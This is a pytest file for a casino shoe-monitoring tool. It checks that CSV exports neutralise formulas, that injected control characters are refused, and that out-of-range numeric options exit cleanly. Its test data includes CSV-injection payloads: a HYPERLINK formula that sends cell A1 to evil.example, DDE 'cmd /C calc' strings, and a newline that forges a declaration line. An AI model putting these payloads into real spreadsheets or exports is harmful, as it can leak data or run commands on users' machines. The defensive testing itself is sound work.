"""What a careless technician or an attacker types into the tools (issue 38): a CSV export opened in a spreadsheet
runs no formula the registry or a journal holds (OWASP's leading `'`); a free-text option refuses control
characters, so no extra line prints in a declaration; a numeric option out of its bounds is refused in one line,
exit 2, before anything is read or written; `fleet synth` with too few shoes for its planted anomalies says so."""

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from sabot import csvout
from sabot.cli import main
from tests.conftest import SCENARIOS

SABOT = str(Path(sys.executable).parent / "sabot")
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"cliquez")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def sabot(*args):
    return subprocess.run([SABOT, *map(str, args)], capture_output=True, text=True, timeout=120,
                          stdin=subprocess.DEVNULL)


def refused(args, capsys):
    """sabot.cli.main(args) as typed: (its exit status, its stderr's lines)."""
    with pytest.raises(SystemExit) as ended:
        main(args)
    return ended.value.code, capsys.readouterr().err.splitlines()


@pytest.mark.req("H-EXPORT")
def test_key_export_csv_neutralises_formulas_from_the_registry(tmp_path):
    registry = tmp_path / "shoes.json"
    shoes = [{"sabot": 40 + n, "public_key": text, "casino_key": FORMULAS[-1 - n], "enrolled": "2026-12-01T09:00:00"}
             for n, text in enumerate(FORMULAS)] + [{"sabot": 99, "public_key": "ab" * 64, "casino_key": None,
                                                      "enrolled": "-"}]
    registry.write_text(json.dumps({"shoes": shoes}))
    done = subprocess.run([SABOT, "key", "export", "--registry", str(registry), "--format", "csv"],
                          capture_output=True, timeout=120)  # bytes: as a spreadsheet reads the file
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout.decode(), newline="")))
    assert [r["sabot"] for r in rows] == [str(s["sabot"]) for s in shoes]  # numbers stay numbers
    for row, shoe in zip(rows, shoes):
        for name in ("public_key", "casino_key", "enrolled"):
            given = shoe[name] or ""
            want = "'" + given if given[:1] in ("=", "+", "-", "@", "\t", "\r") else given
            assert row[name] == want.replace("\r", "\n"), name
    assert rows[-1]["public_key"] == "ab" * 64 and rows[-1]["enrolled"] == "'-"
    assert json.loads(sabot("key", "export", "--registry", registry, "--format", "json").stdout)["shoes"][0][
        "public_key"] == FORMULAS[0]  # JSON is no spreadsheet: kept as written


@pytest.mark.req("H-EXPORT")
def test_every_csv_writer_of_the_tools_neutralises_and_log_export_is_unchanged(tmp_path):
    out = io.StringIO()
    writer = csvout.DictWriter(out, ("n", "text"), lineterminator="\n")
    writer.writeheader()
    writer.writerows([{"n": -5, "text": f} for f in FORMULAS] + [{"n": 1, "text": "Casino de Deauville"}])
    rows = list(csv.reader(io.StringIO(out.getvalue())))[1:]
    assert [r[0] for r in rows] == ["-5"] * len(FORMULAS) + ["1"]
    assert [r[1] for r in rows] == ["'" + f.replace("\r", "\n") for f in FORMULAS] + ["Casino de Deauville"]
    out = io.StringIO()
    csvout.Writer(out, lineterminator="\n").writerows([[-5, f] for f in FORMULAS])
    assert [r[1] for r in csv.reader(io.StringIO(out.getvalue()))] == ["'" + f.replace("\r", "\n") for f in FORMULAS]
    tools = Path(__file__).resolve().parents[2] / "host_tools"
    raw = [str(p) for p in tools.rglob("*.py") if re.search(r"\bcsv\.(writer|DictWriter)\b", p.read_text())]
    assert raw == [str(tools / "sabot" / "csvout.py")], "a CSV written without csvout: %s" % raw
    log = tmp_path / "journal"
    assert sabot("sim", SCENARIOS / "incidents.txt", "--log", log, "--quiet").returncode == 0
    done = sabot("log", "export", log, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert rows and not [v for r in rows for v in r.values() if v.startswith("'")]  # a journal's words: no formula


@pytest.mark.req("O-START")
def test_a_newline_in_the_establishment_is_refused_and_no_extra_line_prints(tmp_path, capsys):
    log = tmp_path / "journal"
    assert sabot("sim", SCENARIOS / "banque_ouverte_article61.txt", "--log", log, "--quiet").returncode == 0
    forged = "Casino de Deauville\nDéclaration annulée : aucune séance à déclarer"
    done = sabot("ouverte", "declaration", log, "--establishment", forged, "--allow-development-key", "-o",
                 tmp_path / "declaration.txt")
    assert done.returncode == 2 and done.stdout == "" and "Traceback" not in done.stderr
    assert len(done.stderr.splitlines()) == 1 and "control character (U+000A)" in done.stderr
    assert not (tmp_path / "declaration.txt").exists()
    good = sabot("ouverte", "declaration", log, "--establishment", "Casino de Deauville", "--allow-development-key")
    assert good.returncode == 0 and "Casino de Deauville" in good.stdout
    for args in (["report", log, "-o", tmp_path / "r.html"], ["cagnotte", "carnet", log, "--ledger", "l.csv", "-o",
                 tmp_path / "c.html"], ["nuit", "--casino", "deauville"]):
        for bad in (forged, "Casino\rde Deauville", "Casino\x1b[2Jde Deauville", "Casino\u202ede Deauville", " "):
            status, err = refused([str(a) for a in args] + ["--establishment", bad], capsys)
            assert status == 2 and len(err) == 1 and "--establishment" in err[0], (args, bad, err)
    assert not (tmp_path / "r.html").exists() and not (tmp_path / "c.html").exists()


# (arguments, words the one line holds): every numeric option of the tools, out of its bounds.
OUT_OF_BOUNDS = [
    (["fleet", "check", "--db", "x.duckdb", "--same-table", "0"], "from 2 to 65535"),
    (["fleet", "check", "--db", "x.duckdb", "--same-table", "-5"], "from 2 to 65535"),
    (["fleet", "check", "--db", "x.duckdb", "--same-table", "1"], "from 2 to 65535"),
    (["fleet", "check", "--db", "x.duckdb", "--silent-days", "0"], "from 1 to 3660"),
    (["fleet", "check", "--db", "x.duckdb", "--silent-days", "nan"], "from 1 to 3660"),
    (["fleet", "check", "--db", "x.duckdb", "--silent-days=-inf"], "from 1 to 3660"),
    (["fleet", "check", "--db", "x.duckdb", "--window", "1"], "from 8 to 312"),
    (["fleet", "check", "--db", "x.duckdb", "--window", "5000"], "from 8 to 312"),
    (["fleet", "check", "--db", "x.duckdb", "--max-burns", "-1"], "from 1 to 312"),
    (["fleet", "check", "--db", "x.duckdb", "--false-alarm", "0"], "false-alarm rate from"),
    (["fleet", "check", "--db", "x.duckdb", "--false-alarm", "1.5"], "false-alarm rate from"),
    (["fleet", "check", "--db", "x.duckdb", "--levy-ratio", "2"], "--levy-ratio"),
    (["fleet", "check", "--db", "x.duckdb", "--levy-coups", "0"], "from 1 to"),
    (["fleet", "ingest-ledger", "l.csv", "--db", "x.duckdb", "--casino", "c", "--sabot", "-1"], "from 0 to 65535"),
    (["fleet", "synth", "{w}/fleet", "--sabots", "0"], "from 1 to 100000"),
    (["fleet", "synth", "{w}/fleet", "--sabots", "-3", "--clean"], "from 1 to 100000"),
    (["fleet", "synth", "{w}/fleet", "--days", "0"], "from 1 to 3660"),
    (["fleet", "synth", "{w}/fleet", "--coups", "-1"], "from 0 to 78"),
    (["web", "--port", "70000"], "from 0 to 65535"),
    (["log", "verify", "j", "--same-table", "1"], "from 2 to 65535"),
]


@pytest.mark.req("F-ASSIGN", "F-LEVY", "H-VERIFY")
@pytest.mark.parametrize("args,said", OUT_OF_BOUNDS, ids=[" ".join(a) for a, _ in OUT_OF_BOUNDS])
def test_an_option_out_of_its_bounds_is_refused_in_one_line_exit_2(args, said, tmp_path, capsys):
    status, err = refused([a.format(w=tmp_path) for a in args], capsys)
    assert status == 2 and len(err) == 1 and said in err[0] and err[0].startswith("sabot"), err
    assert list(tmp_path.iterdir()) == []


@pytest.mark.req("F-ASSIGN")
def test_fleet_synth_with_too_few_shoes_for_its_anomalies_says_so_and_writes_nothing(tmp_path):
    for args, said in ((["--sabots", "3"], "need two casinos: ask for more --sabots (6 at least), or --clean"),
                       (["--sabots", "12", "--days", "2"], "ask for more --days or --sabots, or --clean")):
        done = sabot("fleet", "synth", tmp_path / "fleet", *args)
        assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
        assert len(done.stderr.splitlines()) == 1 and said in done.stderr, done.stderr
        assert list(tmp_path.iterdir()) == []  # neither the fleet nor its temporary folder
    done = sabot("fleet", "synth", tmp_path / "fleet", "--sabots", "3", "--clean", "--days", "1", "--coups", "1")
    assert done.returncode == 0 and "1 casinos, 5 sabots; planted: nothing" in done.stdout, done.stderr
